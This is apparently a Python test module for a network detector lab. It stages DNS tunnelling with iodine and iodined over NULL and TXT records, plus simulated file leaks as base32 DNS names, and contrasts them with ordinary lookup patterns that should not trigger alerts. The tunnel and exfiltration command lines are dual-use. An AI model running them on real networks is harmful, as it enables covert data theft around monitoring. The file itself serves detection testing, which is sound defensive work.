"""DNS tunnels: iodine with real traffic inside, a leak of our own; and the ordinary lookups that resemble them."""

from __future__ import annotations

import subprocess
import time

from tests.lab import pods
from tests.lab.lab import wait_for
from tests.lab.stage import Case, Stage, cluster_dns, finish, outside_dns

ZONE, SECRET = "t.hidden.example", "lab"
INSIDE = "10.99.0.1"  # the far end of the tunnel
CAST = ("dns", "client3", "client4")
DNS = pods.BY_NAME["dns"].ip4


def _tunnel_up(stage: Stage, pod: str, child: subprocess.Popen[bytes]) -> bool:
    if child.poll() is not None:
        raise RuntimeError(f"lab: iodine ended with {child.returncode}")
    shown = subprocess.run(["ip", "-n", stage.lab.space(pod), "-4", "addr"], capture_output=True, text=True, check=True)
    return "10.99.0." in shown.stdout


def iodine(stage: Stage, pod: str, resolver: str, record: str, fetches: int) -> None:
    """A tunnel from `pod` through `resolver` in records of one type; `fetches` pages of 2 kB go through it."""
    served = f"iodined -f -c -P {SECRET} -l {pods.OUTSIDE_IODINE} {INSIDE}/24 {ZONE}"
    far = stage.begin(pods.OUTSIDE, served)
    stage.listening(far, 53, udp=True)
    stage.server(pods.OUTSIDE, "http 8080")
    near = stage.begin(pod, f"iodine -f -r -m 1000 -T {record} -P {SECRET} {resolver} {ZONE}")
    wait_for(lambda: _tunnel_up(stage, pod, near), "iodine's tunnel", 40.0)
    for _ in range(fetches):
        stage.tool(pod, f"curl -sS -o /dev/null --max-time 30 http://{INSIDE}:8080/page/2000")
        time.sleep(1.0)
    near.terminate()
    near.wait(10)
    far.terminate()
    far.wait(10)


def _direct(record: str) -> Case:
    def play(stage: Stage) -> None:
        with stage.attack("dns_tunnel", "client4", pods.OUTSIDE_IODINE, domain="hidden.example"):
            iodine(stage, "client4", pods.OUTSIDE_IODINE, record, fetches=8)

    name, title = f"iodine_{record.lower()}_direct", f"iodine in {record} records, straight to its server"
    return Case("dns_tunnel", name, title, play, pods=CAST)


def _forwarded(record: str) -> Case:
    def play(stage: Stage) -> None:
        cluster_dns(stage)
        with stage.attack("dns_tunnel", "client4", "dns", domain="hidden.example"):
            iodine(stage, "client4", DNS, record, fetches=8)
        stage.silence("dns_tunnel", src=DNS, note="the forwarder only passes on what it was asked")

    name, title = f"iodine_{record.lower()}_forwarded", f"iodine in {record} records through the cluster's resolver"
    return Case("dns_tunnel", name, title, play, pods=CAST)


def _leak(name: str, title: str, style: str, rate: float, count: int, forwarded: bool) -> Case:
    def play(stage: Stage) -> None:
        cluster_dns(stage)
        stage.server(pods.OUTSIDE, f"names 53 --address {pods.OUTSIDE_SINK}", udp=True)
        resolver = DNS if forwarded else pods.OUTSIDE_SINK
        with stage.attack("dns_tunnel", "client3", resolver, domain="leak.example", queries=count):
            finish(stage.lookup("client3", f"{style} --server {resolver} --rate {rate} --count {count} --seed 41"))
        if forwarded:
            stage.silence("dns_tunnel", src=DNS, note="the forwarder only passes on what it was asked")

    return Case("dns_tunnel", name, title, play, pods=CAST)


def _ordinary(name: str, title: str, style: str, rate: float, count: int, note: str) -> Case:
    def play(stage: Stage) -> None:
        outside_dns(stage)
        cluster_dns(stage)
        finish(stage.lookup("client3", f"{style} --server {DNS} --rate {rate} --count {count} --seed 51"))
        stage.silence(note=note)

    return Case("dns_tunnel", name, title, play, pods=CAST)


CASES = (
    _direct("NULL"),
    _direct("TXT"),
    _forwarded("NULL"),
    _forwarded("TXT"),
    _leak("leak_txt_direct", "A file leaves as base32 names, answers as TXT, straight to the server",
          "leak", 8, 200, False),
    _leak("leak_txt_forwarded", "A file leaves as base32 names through the resolver", "leak", 6, 240, True),
    _leak("leak_drip_forwarded", "Short names asked for addresses only, two a second", "drip", 2, 160, True),
    _ordinary("lookups_browsing", "Names of many web sites, A and AAAA", "browsing", 6, 400,
              "many names, many domains"),
    _ordinary("lookups_hashed", "Content network names: a hash per customer", "hashed", 4, 300,
              "at most some dozens of different names under two domains, asked again and again"),
    _ordinary("lookups_search_path", "Search path expansion: three names in four do not exist", "search", 8, 500,
              "NXDOMAIN of the search path is ordinary"),
    _ordinary("lookups_blocklist", "A mail server asks a block list about each caller", "blocklist", 3, 200,
              "200 different short names under one domain, nearly all NXDOMAIN, no payload in the answers"),
    _ordinary("lookups_reverse", "Reverse lookups of two networks", "reverse", 5, 300, "PTR, all NXDOMAIN"),
)  # fmt: skip
